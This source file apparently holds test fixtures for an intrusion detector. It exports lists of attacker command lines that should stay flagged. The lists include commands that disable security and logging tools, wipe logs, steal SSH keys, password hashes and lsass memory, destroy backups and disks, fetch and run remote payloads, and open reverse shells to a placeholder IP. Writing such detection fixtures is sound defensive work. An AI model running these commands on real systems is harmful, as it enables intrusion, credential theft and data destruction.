/** Command lines of intruders: what must stay accused when everyday work is left alone. */
export const INTRUDERS = String.raw`
systemctl stop auditd
sudo systemctl disable --now rsyslog
service auditd stop
systemctl mask wazuh-agent
pkill -9 -f falcon-sensor
killall -9 osqueryd
apt-get remove -y auditd
apt-get purge --auto-remove clamav
rpm -e falcon-sensor
dpkg -r wazuh-agent
auditctl -e 0
auditctl -D
setenforce 0
sc stop windefend
sc.exe config WinDefend start= disabled
sc delete Sysmon64
net stop WinDefend
net stop "Sophos AutoUpdate Service"
taskkill /f /im MsMpEng.exe
taskkill /F /IM CSFalconService.exe
powershell Stop-Service -Name Sysmon -Force
powershell Set-Service WinDefend -StartupType Disabled
powershell Uninstall-WindowsFeature Windows-Defender
powershell Set-MpPreference -DisableRealtimeMonitoring $true
powershell Add-MpPreference -ExclusionPath C:\Users\Public
"C:\Program Files\Windows Defender\MpCmdRun.exe" -RemoveDefinitions -All
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
Sysmon64.exe -u force
fltMC.exe unload SysmonDrv
wmic product where "name like '%Sophos%'" call uninstall /nointeractive
msiexec /x {GUID} /qn REMOVE=ALL PRODUCT="Symantec Endpoint Protection"
launchctl unload /Library/LaunchDaemons/com.crowdstrike.falcond.plist
echo '*.* @0.0.0.0' > /etc/rsyslog.conf
sed -i 's/^/#/' /etc/rsyslog.conf
rm -f /etc/rsyslog.d/50-default.conf
ln -sf /dev/null /var/log/auth.log
cat /dev/null > /var/log/auth.log
truncate -s 0 /var/log/syslog
rm -rf /var/log/*
shred -u ~/.bash_history
history -c
ln -sf /dev/null ~/.bash_history
unset HISTFILE
export HISTFILE=/dev/null
cp ~/.ssh/id_rsa /tmp/.x
cat ~/.ssh/id_rsa
cat /root/.ssh/id_ed25519 | base64
tar czf /tmp/k.tgz /home/*/.ssh
find / -name id_rsa -exec cp {} /tmp/k \;
find / -name "*.pem" -exec cat {} \;
scp ~/.ssh/id_rsa bob@198.51.100.7:/tmp
powershell Get-ChildItem -Recurse -Include *.pfx | Copy-Item -Destination C:\Temp
certutil -exportPFX my cert.pfx
cat /etc/shadow
cp /etc/shadow /tmp/s
wevtutil cl Security
auditpol /clear /y
netsh advfirewall set allprofiles state off
ufw disable
iptables -F
systemctl stop firewalld
touch -t 202001010000 /usr/bin/x
touch -r /bin/ls /tmp/.x
touch -d "2 years ago" /usr/bin/x
date -s "2020-01-01"
vssadmin delete shadows /all /quiet
wbadmin delete catalog -quiet
bcdedit /set {default} recoveryenabled No
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 628 C:\l.dmp full
procdump.exe -ma lsass.exe out.dmp
reg save HKLM\SAM C:\s.hiv
ntdsutil "ac i ntds" "ifm" "create full c:\temp" q q
mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit
certutil -urlcache -split -f http://198.51.100.7/a a.exe
certutil -decode a.txt a.exe
bitsadmin /transfer x http://198.51.100.7/a c:\a.exe
regsvr32 /s /n /u /i:http://198.51.100.7/f.sct scrobj.dll
mshta http://198.51.100.7/a.hta
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d c:\x.exe
nc -e /bin/sh 198.51.100.7 4444
echo aW1wb3J0IG9z | base64 -d | sh
/tmp/xmrig -o stratum+tcp://pool.example:3333
insmod /tmp/diamorphine.ko
echo /tmp/evil.so > /etc/ld.so.preload
chmod u+s /tmp/bash
nsenter -t 1 -m -u -i -n sh
docker run -v /:/mnt --privileged -it alpine chroot /mnt
mavinject.exe 4242 /INJECTRUNNING C:\x.dll
copy x.exe \\host\admin$\x.exe
security dump-keychain -d login.keychain
hydra -l root -P pass.txt ssh://198.51.100.7
powershell Invoke-Mimikatz
cipher /w:C:\
dd if=/dev/zero of=/dev/sda
fodhelper.exe
`;

/** Acts that administrators do as well: accused all the same, a grade less. */
export const INTRUDERS_QUIET = String.raw`
wmic process call create "cmd /c calc"
schtasks /create /tn x /tr c:\users\public\x.exe /sc onlogon /ru system
echo "* * * * * root /tmp/.x" >> /etc/crontab
echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys
bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'
curl -s http://198.51.100.7/x.sh | bash
psexec.exe \\host -s cmd.exe
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
`;
